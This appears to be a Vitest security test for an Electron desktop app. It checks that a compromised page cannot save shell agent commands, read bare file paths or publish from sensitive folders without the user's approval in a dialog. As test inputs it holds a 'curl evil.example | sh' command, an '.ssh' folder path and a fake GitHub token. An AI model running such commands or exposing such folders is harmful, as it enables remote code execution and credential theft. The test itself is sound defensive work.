import { copyFile, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { BrowserWindow, Dialog, IpcMainInvokeEvent } from 'electron';
import { DROP_GRANT_CHANNEL } from '../../src-shared/ipc/files';
import { electronFake } from '../helpers/electron-fake';
import { makeBridge, type TestBridge } from '../unit/ipc/helpers';

/**
 * Point 4 of issue #10 in the desktop app: what a compromised page can make main do through the real IPC
 * gate and bridge. The Electron runtime is the edge that is faked: ipcMain records handlers, and the
 * native dialogs answer as the user would click.
 */

vi.mock('electron', () => electronFake.module);
const fake = electronFake.state;

const { registerIpcHandlers } = await import('../../src-main/app/ipc-gate');
const { APP_ENTRY, isRendererUrl } = await import('../../src-main/app/window');
const { dialogConfirm, dialogPicker } = await import('../../src-main/app/dialogs');

type Result = { ok: boolean; value?: unknown; error?: { kind: string; message: string } };

/** The native dialogs, as the user answers them: each message box is recorded, each answer scripted. */
const dialog = electronFake.module.dialog as unknown as Dialog;
const asked = fake.messageBoxes;
const click = (button: 'Allow' | 'Cancel') => (fake.messageBoxAnswer = button);

const mainFrame = { url: APP_ENTRY };
const webContents = { mainFrame, send: () => undefined, isLoading: () => false };
const win = { webContents, isDestroyed: () => false } as unknown as BrowserWindow;
const top = { sender: webContents, senderFrame: mainFrame } as unknown as IpcMainInvokeEvent;
const iframe = { sender: webContents, senderFrame: { url: APP_ENTRY } } as unknown as IpcMainInvokeEvent;

let tb: TestBridge;
let rcFile: string;
let png: string;

const call = (name: string, input?: unknown, event = top) => {
  const h = fake.ipcHandlers.get(name);
  if (!h) throw new Error(`no handler for ${name}`);
  return h(event, input) as Promise<Result>;
};

beforeAll(async () => {
  tb = await makeBridge(undefined, {
    confirm: dialogConfirm(dialog, () => win),
    picker: dialogPicker(dialog, () => win),
  });
  registerIpcHandlers({
    dispatcher: tb.bridge.dispatcher,
    window: () => win,
    isTrustedUrl: (u) => isRendererUrl(u, null),
    grants: tb.bridge.grants,
  });
  rcFile = join(tb.dir, 'home', '.zshrc');
  await mkdir(join(tb.dir, 'home'), { recursive: true });
  await writeFile(rcFile, 'export GITHUB_TOKEN=ghp_rcsecret0000000000000000000000000000\n');
  png = join(tb.dir, 'pics', 'pic.png');
  await mkdir(join(tb.dir, 'pics'));
  await copyFile(new URL('../../resources/icon.png', import.meta.url), png);
});
afterAll(async () => {
  await tb.close();
});

describe('the desktop app: the page holds grants, not powers', () => {
  it('a shell as agent command is saved only once the user allows it in main’s own dialog', async () => {
    const shell = {
      agent_commands: [{ agent_type: 'shell', command: '/bin/sh', args: ['-c', 'curl evil.example | sh'] }],
    };
    click('Cancel');
    const refused = await call('settings:update', shell);
    expect(refused).toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    expect(refused.error?.message).not.toMatch(/agent_commands|postdesk config/);
    // The dialog said exactly what would run, every argument quoted as a shell would need.
    expect(asked.at(-1)?.detail).toContain(`Agent 'shell' runs: '/bin/sh' '-c' 'curl evil.example | sh'`);
    expect(asked.at(-1)?.buttons).toEqual(['Cancel', 'Allow']);
    expect(await call('settings:get')).toMatchObject({ ok: true, value: { agent_commands: [] } });

    // ffmpeg and the folder agent's folders are the same kind of power.
    expect(await call('settings:update', { ffprobe_path: '/bin/sh' })).toMatchObject({ ok: false });
    const folders = { automation_folders: [{ automation_id: 'a1', folder: '/home/me/.ssh' }] };
    expect(await call('settings:update', folders)).toMatchObject({ ok: false });
    expect(asked.at(-1)?.detail).toContain(`Automation 'a1' publishes files from: '/home/me/.ssh'`);

    // What is not a power needs no dialog; what the user allows is saved.
    const before = asked.length;
    expect(await call('settings:update', { concurrency: 3 })).toMatchObject({ ok: true });
    expect(asked).toHaveLength(before);
    click('Allow');
    expect(await call('settings:update', shell)).toMatchObject({
      ok: true,
      value: { agent_commands: shell.agent_commands },
    });
    // Sending the same value again changes nothing and asks nothing.
    expect(await call('settings:update', shell)).toMatchObject({ ok: true });
    expect(asked).toHaveLength(before + 1);
    click('Cancel');
  });

  it('refuses a bare path at the gate: bulk:plan never reads or echoes the file, media:add registers nothing', async () => {
    const planned = await call('bulk:plan', { source: { path: rcFile } });
    expect(planned).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
    expect(JSON.stringify(planned)).not.toContain('ghp_rcsecret');
    expect(await call('media:add', { paths: [png] })).toMatchObject({
      ok: false,
      error: { kind: 'invalid_input' },
    });
    expect(await call('media:add', { grants: [rcFile] })).toMatchObject({ ok: false });
  });

  it('grants what the preload read from a drop, only for our top frame', async () => {
    const item = { items: [{ path: png, name: 'pic.png' }] };
    expect(await call(DROP_GRANT_CHANNEL, item, iframe)).toMatchObject({
      ok: false,
      error: { kind: 'forbidden' },
    });
    expect(await call(DROP_GRANT_CHANNEL, { items: [{ path: 'pics/pic.png', name: 'x' }] })).toMatchObject({
      ok: true,
      value: { files: [], skipped: [{ name: 'x', reason: 'not a file on this computer' }] },
    });
    const dropped = (await call(DROP_GRANT_CHANNEL, item)) as { value: { files: { grant: string }[] } };
    const grant = dropped.value.files[0]!.grant;
    const added = await call('media:add', { grants: [grant] });
    expect(added).toMatchObject({
      ok: true,
      value: { files: [{ name: 'pic.png', content_type: 'image/png' }] },
    });
    // No page-visible channel mints: the contract has none that takes a path.
    expect(JSON.stringify(added)).not.toContain(tb.dir);
  });

  it('grants what the user chose in main’s open dialog, and nothing when they cancel', async () => {
    fake.openDialogAnswer = [];
    expect(await call('files:pick', { purpose: 'media' })).toEqual({
      ok: true,
      value: { files: [], skipped: [] },
    });
    fake.openDialogAnswer = [png];
    const picked = (await call('files:pick', { purpose: 'media' })) as {
      value: { files: { grant: string; name: string }[] };
    };
    expect(picked.value.files).toMatchObject([{ name: 'pic.png', folder: false }]);
    const added = await call('media:add', { grants: [picked.value.files[0]!.grant] });
    expect(added).toMatchObject({ ok: true, value: { files: [{ name: 'pic.png' }] } });
  });

  it('a CSV the user chose here may name media beside it; the same text sent by the page may not', async () => {
    const csv = `caption,targets,media\n"Hello",x:11111111-1111-4111-8111-000000000005,pic.png\n`;
    const file = join(tb.dir, 'pics', 'plan.csv');
    await writeFile(file, csv);
    const dropped = (await call(DROP_GRANT_CHANNEL, { items: [{ path: file, name: 'plan.csv' }] })) as {
      value: { files: { grant: string }[] };
    };
    const granted = (await call('bulk:plan', { source: { grant: dropped.value.files[0]!.grant } })) as {
      value: { rows: { ok: boolean; media_count: number; issues: unknown[] }[] };
    };
    expect(granted.value.rows[0]).toMatchObject({ ok: true, media_count: 1, issues: [] });
    const text = (await call('bulk:plan', { source: { text: csv, name: 'plan.csv' } })) as {
      value: { rows: { ok: boolean; issues: { field: string }[] }[] };
    };
    expect(text.value.rows[0]).toMatchObject({ ok: false, issues: [{ field: 'media' }] });
  });
});
